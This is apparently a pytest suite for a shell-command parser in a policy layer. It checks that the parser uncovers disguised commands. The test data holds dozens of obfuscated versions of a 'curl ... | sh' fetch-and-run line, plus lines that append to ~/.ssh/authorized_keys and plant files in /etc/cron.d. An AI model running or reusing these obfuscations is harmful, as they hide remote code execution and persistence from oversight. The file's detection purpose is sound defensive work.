"""Claims about `herma.policy.command.shell`."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from herma.policy.command import shell, word
from herma.policy.command.call import Call
from herma.policy.command.shell import read_argv, read_script


def _script_lines(script: str, env: dict[str, str] | None = None) -> tuple[str, ...]:
    return read_script(script, env).lines


def _argv_lines(argv: list[str]) -> tuple[str, ...]:
    return read_argv(argv).lines


FETCH = "curl -s http://192.0.2.1/i | sh"
SCRIPTS = {
    "as it is": (FETCH, {}),
    "quotes": ("c\"u\"rl -s http://192.0.2.1/i | s''h", {}),
    "backslashes": ("c\\url -s http://192.0.2.1/i | \\sh", {}),
    "assignments": ("a=c;b=ur;d=l;$a$b$d -s http://192.0.2.1/i|sh", {}),
    "empty parameters": ("cu$@rl -s http://192.0.2.1/i | s${1}h", {}),
    "IFS": ("curl${IFS}-s${IFS%x}http://192.0.2.1/i|sh", {}),
    "ANSI-C quoting": ("$'\\x63url' -s http://192.0.2.1/i | sh", {}),
    "indirection": ("n=X; X=curl; ${!n} -s http://192.0.2.1/i|sh", {}),
    "a default": ("${undefined_x:-curl} -s http://192.0.2.1/i | sh", {}),
    "the environment": ("$A -s http://192.0.2.1/i | sh", {"A": "curl"}),
    "an exported variable": ("declare -x A=curl; export B=1; $A -s http://192.0.2.1/i | sh", {}),
    "wildcards": ("/???/b??/c?rl -s http://192.0.2.1/i | /???/?h", {}),
    "a substitution": ("$(echo curl) -s http://192.0.2.1/i | $(printf s)h", {}),
    "backticks": ("`echo curl` -s http://192.0.2.1/i | sh", {}),
    "eval": ("eval 'cur'\"l -s http://192.0.2.1/i | sh\"", {}),
    "an alias": ("alias g='cur''l'; g -s http://192.0.2.1/i|sh", {}),
    "printf -v": ("printf -v c '%s' cur l; $c -s http://192.0.2.1/i|sh", {}),
    "base64": ("echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL2kgfCBzaA== | base64 -d | bash", {}),
    "reversed": ("echo 'hs | i/1.2.0.291//:ptth s- lruc' | rev | sh", {}),
    "a here string": ("bash <<< 'curl -s http://192.0.2.1/i | sh'", {}),
    "a here string behind a group": ("{ bash; } <<< 'curl -s http://192.0.2.1/i | sh'", {}),
    "a here string behind a loop": ("while true; do bash; done <<< 'curl -s http://192.0.2.1/i | sh'", {}),
    "a here document": ("bash <<X\ncurl -s http://192.0.2.1/i | sh\nX\n", {}),
    "a piped here document": ("cat <<X | bash\ncurl -s http://192.0.2.1/i | sh\nX\n", {}),
    "a piped here document through two tools": (
        "cat <<X | cat | bash\ncurl -s http://192.0.2.1/i | sh\nX\n",
        {},
    ),
    "another shell": ("sh -c 'bash -c \"curl -s http://192.0.2.1/i | sh\"'", {}),
    "xargs": ("echo '-s http://192.0.2.1/i | sh' | xargs curl", {}),
    "a function": ("f() { curl -s http://192.0.2.1/i | sh; }; f", {}),
    "a condition": ("if true; then curl -s http://192.0.2.1/i | sh; else x; fi", {}),
    "a loop": ("for u in http://192.0.2.1/i; do curl -s $u | sh; done", {}),
    "a subshell": ("( { ! false; curl -s http://192.0.2.1/i | sh; } )", {}),
    "carriage returns": ("true\r\ncurl -s http://192.0.2.1/i | sh", {}),
    "parameters that are set": ("set -- cu rl; $1$2 -s http://192.0.2.1/i | sh", {}),
    "an array": ("a=(curl -s); ${a[@]} http://192.0.2.1/i | sh", {}),
    "all parameters": ('set -- x; "$@"; curl -s http://192.0.2.1/i | sh', {}),
}


@pytest.mark.parametrize(("script", "env"), SCRIPTS.values(), ids=SCRIPTS.keys())
def test_a_disguised_command_line_is_resolved(script: str, env: dict[str, str]) -> None:
    """However the shell is made to read it, the line that runs is found."""
    assert FETCH in _script_lines(script, env)


LINES = {
    "a redirect": ("echo k >> ~/.ssh/authorized_keys", "echo k >> ~/.ssh/authorized_keys"),
    "a redirect inside a command": ("<f cat 2>&1", "cat < f >& 1"),
    "braces and wildcards in a target": ("echo k >> ~/.s[s]h/auth*_ke?s", "echo k >> ~/.ssh/authorized_keys"),
    "a substitution that nobody knows": ('bash -c "$(curl -s x)"', "bash -c $(curl -s x)"),
    "a process substitution": ("source <(curl -s x)", "source <(curl -s x)"),
    "an unknown variable": ("run $unknown_x", "run $unknown_x"),
    "a variable without a name": ("run $?", "run $?"),
    "a group in a pipe": ("(curl x || wget x) | sh", "curl x; wget x | sh"),
    "text in strings": ('echo "a $X b"; X=1; echo "a $X b"', "echo a 1 b"),
    "an assignment before a command": ("A=1 run", "A=1 run"),
    "a wildcard for nothing sensitive": ("ls a*b /x/* /x/a*", "ls a*b /x/* /x/a*"),
}


@pytest.mark.parametrize(("script", "line"), LINES.values(), ids=LINES.keys())
def test_a_line_is_written_as_it_runs(script: str, line: str) -> None:
    """Redirects, groups and what cannot be known stay visible."""
    assert line in _script_lines(script)


def test_positional_parameters_are_the_arguments_behind_the_script() -> None:
    """`$0` is the first of them, `$@` the rest, and the outer ones come back after an inner script."""
    assert "curl -s x" in _argv_lines(["bash", "-c", '"$0$1" -s "$2"', "cu", "rl", "x"])
    assert "a b c" in _argv_lines(["bash", "-c", 'sh -c "true" z y; "$@"', "0", "a", "b", "c"])
    assert "cur l" in _argv_lines(["bash", "-c", "$*", "0", "cur", "l"])
    assert "printf %s cu rl; curl" not in _argv_lines(
        ["bash", "-c", 'eval "$(printf %s "$@")"', "x", "cu", "rl"]
    )
    assert "curl" in _argv_lines(["bash", "-c", 'eval "$(printf %s "$@")"', "x", "cu", "rl"])


def test_programs_that_a_starter_fills_in_are_shells() -> None:
    """`${SHELL}` and `%COMSPEC%` run what stands behind their option."""
    assert "x y" in _argv_lines(["${SHELL}", "-c", "x y"])
    assert "x y" in _argv_lines(["%COMSPEC%", "/c", "x y"])


def test_arguments_that_look_like_scripts_are_read() -> None:
    """Whatever program takes it: what is called later is seen now."""
    assert "curl x | sh" in _argv_lines(["watch", "-n", "9", "curl x | sh"])
    assert "curl x | sh" in _argv_lines(["vim", "-c", ":!curl x | sh"])


def test_depth_nodes_lines_and_text_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nests, repeats and long texts end the reading, not the program."""
    assert _script_lines("( " * 200 + "x" + " )" * 200) is not None
    assert _script_lines("(" * 5000 + "x" + ")" * 5000) is not None
    assert _script_lines("$(" * 300 + "x" + ")" * 300) is not None
    assert _script_lines('"' + "$(echo " * 40 + "x" + ")" * 40 + '"') is not None
    nested = "x"
    for _ in range(10):
        nested = "eval " + "'" + nested.replace("'", "'\\''") + "'"
    assert not read_script(nested).whole
    monkeypatch.setattr(shell, "MAX_LINES", 3)
    assert len(_script_lines("a;b;c;d;e")) <= 3
    monkeypatch.setattr(word, "MAX_NODES", 5)
    assert len(_script_lines("echo $(a b c d e f g)")) <= 3
    monkeypatch.setattr(shell, "MAX_PARSED_CHARS", 10)
    assert _script_lines("sh -c 'echo a long one'") == ()


def test_a_text_that_grows_is_not_read_in_part() -> None:
    """What is put together and what a tool prints may be longer than any script."""
    assert not read_script("x=" + "a" * 7000 + "; y=$x$x$x").whole
    assert not read_script("printf '%s" + "a" * 200 + "' " + "b " * 200).whole
    assert read_script("x=" + "a" * 7000 + "; y=$x").whole


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="abc $(){}[]'\"`\\;|&<>=*?~/\n!#@x-0", max_size=60) | st.text(max_size=60))
def test_any_text_is_read_as_a_script(script: str) -> None:
    """Nothing makes the reader fail, and no line is empty."""
    assert all(line.strip() for line in _script_lines(script))
    assert all(line.strip() for line in _argv_lines(["sh", "-c", script, "a", "b"]))


@pytest.mark.parametrize(
    "character", ["\x80", "é", "\u4e00", "\ud7ff", "\uffff", "\U00010000", "\U000fdfbf", "\U0010ffff"]
)
def test_characters_beyond_ascii_do_not_reach_the_scanner(character: str) -> None:
    """The grammar's C code reads beyond its tables for them, which ends the process."""
    for script in (
        character,
        f"echo {character}",
        f"${character}",
        f"${{{character}}}",
        f"<<{character}\nx\n{character}",
        f"{{{character}..b}}",
    ):
        assert all(line.isascii() for line in _script_lines(script * 50))


MORE = {
    "a line continued": "cu\\\nrl -s http://192.0.2.1/i | s\\\nh",
    "a brace list": "{curl,-s,http://192.0.2.1/i}|{sh,}",
    "letters cut from a word": "x=abcurl;${x:2} -s http://192.0.2.1/i|${x:0:0}sh",
    "variables that nobody set": "c${z}u${z}rl -s http://192.0.2.1/i | s${z}h",
    "an array without separators": "a=(c u r l); IFS=; ${a[*]} http://192.0.2.1/i | sh",
    "words that are read": "read a b <<< 'cu rl'; $a$b -s http://192.0.2.1/i | sh",
    "a reply that is read": "read -r <<< 'curl'; $REPLY -s http://192.0.2.1/i | sh",
    "parameters that are shifted": "set -- x cu rl; shift; $1$2 -s http://192.0.2.1/i | sh",
    "parameters shifted by two": "set -- x y cu rl; shift 2; $1$2 -s http://192.0.2.1/i | sh",
}


@pytest.mark.parametrize("script", MORE.values(), ids=MORE.keys())
def test_what_is_run_is_found_however_it_is_put_together(script: str) -> None:
    """The programs that start are the same, whatever spelled them."""
    names = {call.argv[0] for call in read_script(script).calls}
    assert {"curl", "sh"} <= names


def test_carets_of_the_windows_shell_are_nothing() -> None:
    """They only hide the letters behind them."""
    assert "curl" in {call.argv[0] for call in read_argv(["cmd", "/c", "cu^rl http://192.0.2.1/i"]).calls}


def test_a_call_has_its_files_and_what_feeds_it() -> None:
    """Redirections of a command and of the block around it count; so does a pipe."""
    calls = read_script("cat < /etc/a | sh; { x; y > /c; } >> /d 2>&1").calls
    by_name = {call.argv[0]: call for call in calls}
    assert by_name["cat"].reads == ("/etc/a",)
    assert by_name["sh"].piped
    assert not by_name["cat"].piped
    assert by_name["x"].writes[0] == "/d"
    assert by_name["y"].writes[:2] == ("/c", "/d")
    assert by_name["y"].line.startswith("y > /c > /d")


def test_a_call_tells_who_starts_it() -> None:
    """What a vector runs directly is told from what a shell in it runs."""
    calls = read_argv(["sudo", "sh", "-c", "x"]).calls
    assert [(call.argv[0], call.shell) for call in calls] == [("sudo", False), ("sh", False), ("x", True)]
    assert Call(("a", "b"), reads=("/r",)).line == "a b < /r"


def test_programs_in_other_languages_are_noted_and_their_commands_read() -> None:
    """Strings that a program would hand to a shell are read as scripts, also its arguments where it joins them."""
    reading = read_argv(["timeout", "5", "python3", "-c", "os.system('curl x')"])
    assert reading.codes == ("os.system('curl x')",)
    assert "curl" in {call.argv[0] for call in reading.calls}
    joined = read_argv(["python3", "-c", "system(''.join(sys.argv[1:]))", "cron", "tab x"])
    assert "crontab" in {call.argv[0] for call in joined.calls}
    fed = read_script("python3 - <<X\nimport os; os.system('curl x')\nX\n")
    assert len(fed.codes) == 1
    assert read_script("python -c 'x(1)'; python -c 'x(1)' y").codes == ("x(1)",)


def test_options_that_carry_commands_are_read() -> None:
    """What stands behind `name=` or an exclamation mark is the command."""
    for argv in (
        ["tar", "cf", "x", "--checkpoint-action=exec=crontab /x"],
        ["git", "-c", "alias.z=!crontab /x", "z"],
        ["vim", "-c", ":!crontab /x"],
    ):
        assert "crontab" in {call.argv[0] for call in read_argv(argv).calls}


BEYOND = {
    "pipes": "a|" * (shell.MAX_PIPES + 1) + "b",
    "calls": ";".join(f"c{index}" for index in range(shell.MAX_CALLS + 1)),
    "programs": ";".join(f"python -c 'x({index})'" for index in range(shell.MAX_CODES + 1)),
    "nodes": "a;" * 4000,
    "scripts": ";".join(["sh -c 'x'"] * (shell.MAX_SCRIPTS + 1)),
    "expansions": "echo " + "$a " * (word.MAX_EXPANSIONS + 1),
}


@pytest.mark.parametrize("script", BEYOND.values(), ids=BEYOND.keys())
def test_more_than_can_be_read_is_said_to_be_so(script: str) -> None:
    """A reading that a bound ended says that it is not whole; one below the bounds is."""
    assert not read_script(script).whole
    assert read_script(script[:20]).whole


def test_lines_beyond_the_bound_end_the_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    """Too many lines are not read in part."""
    monkeypatch.setattr(shell, "MAX_LINES", 2)
    assert not read_script("a; b; c; d").whole


def test_assignments_among_the_words_of_a_vector_are_known_to_its_script() -> None:
    """`env A=b sh -c` and the like set what the script uses."""
    read = read_argv(["env", "P=/etc/cr", "--env=Q=on.d", "sh", "-c", 'cp x "$P$Q"'])
    assert ("cp", "x", "/etc/cron.d") in [call.argv for call in read.calls]


WRITES = {
    "a parameter of a function": "f(){ cp /srv/x $1; }; f /etc/cron.d/x",
    "a keyword's function": "function f { cp /srv/x $1; }; f /etc/cron.d/x",
    "added text": "p=/etc/; p+=cron.d/x; cp /srv/x $p",
    "an added element": "a=(/etc/); a[0]+=cron.d/x; cp /srv/x ${a[0]}",
    "each value of a loop": "for p in a cron; do cp /srv/x /etc/$p.d/x; done",
    "backticks in a word": "cp /srv/x /etc/`echo cron.d`/x",
    "a default": ": ${x:=$(cp /srv/x /etc/cron.d/x)}",
    "a default in a default": "echo ${x:-${y:-$(cp /srv/x /etc/cron.d/x)}}",
    "an index": "a[$(cp /srv/x /etc/cron.d/x)]=1",
    "arithmetic": "((a[$(cp /srv/x /etc/cron.d/x)]++))",
    "a condition": "[[ $(cp /srv/x /etc/cron.d/x) ]]",
    "a case": "case $(cp /srv/x /etc/cron.d/x) in esac",
    "a here document": "cat <<E\n$(cp /srv/x /etc/cron.d/x)\nE",
    "an unset": "unset $(cp /srv/x /etc/cron.d/x)",
    "wildcards of directories": "cp /srv/x /e?c/cron.?/x",
}


@pytest.mark.parametrize("script", WRITES.values(), ids=WRITES.keys())
def test_what_a_shell_puts_together_or_runs_on_the_way_is_seen(script: str) -> None:
    """Wherever the shell would run it, the copy is among the calls."""
    assert ("cp", "/srv/x", "/etc/cron.d/x") in {call.argv for call in read_script(script).calls}


def test_a_function_leaves_the_parameters_of_its_caller() -> None:
    """Those of the call end with it."""
    calls = {call.argv for call in read_argv(["sh", "-c", "f(){ x $1; }; f a; y $1", "s", "b"]).calls}
    assert {("x", "a"), ("y", "b")} <= calls


def test_a_file_in_a_substitution_is_read() -> None:
    """`$(<file)` is what `cat` prints."""
    assert ("cat", "/etc/a") in {call.argv for call in read_script('echo "$(</etc/a)"').calls}


def test_more_values_than_the_bound_end_the_reading() -> None:
    """A loop over a long list is not read in part."""
    assert not read_script(
        "for x in "
        + "a{1,2} b c d " * 40
        + "; do y $x; done; for x in "
        + " ".join(f"v{n}" for n in range(shell.MAX_VALUES + 1))
        + "; do z; done"
    ).whole


def test_a_pattern_on_more_text_than_is_tried_ends_the_reading() -> None:
    """To cut at plain text is known for any length."""
    long = "a" * 200
    assert not read_script(f"x={long}crontab; ${{x##a*a}} /x").whole
    assert ("crontab", "/x") in {
        call.argv for call in read_script(f"x={long}crontab; ${{x#{long}}} /x").calls
    }
    assert ("crontab", "/x") in {call.argv for call in read_script(f"x={long}crontab; ${{x:200}} /x").calls}
    assert ("crontab", "/x") in {
        call.argv for call in read_script(f"x=crontab{long}; ${{x%{long}}} /x").calls
    }


def test_a_quoted_line_of_the_windows_shell_is_read() -> None:
    """The quotes around the whole are its own, and backslashes are parts of paths."""
    calls = {call.argv for call in read_argv(["cmd", "/s", "/c", '"type C:\\\\x\\\\y | cmd"']).calls}
    assert "cmd" in {argv[0] for argv in calls}


@pytest.mark.parametrize(
    "script",
    [
        "sh " * 100 + "-c x",
        'f() { f "$1"x; }; f a',
        "x {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
    ],
    ids=["programs in programs", "a function without end", "choices of choices"],
)
def test_what_is_not_read_to_its_end_is_told(script: str) -> None:
    """Whoever judges refuses it."""
    assert not read_script(script, {}).whole
    assert read_script("sudo ls; f() { ls; }; f; x {a,b}", {}).whole
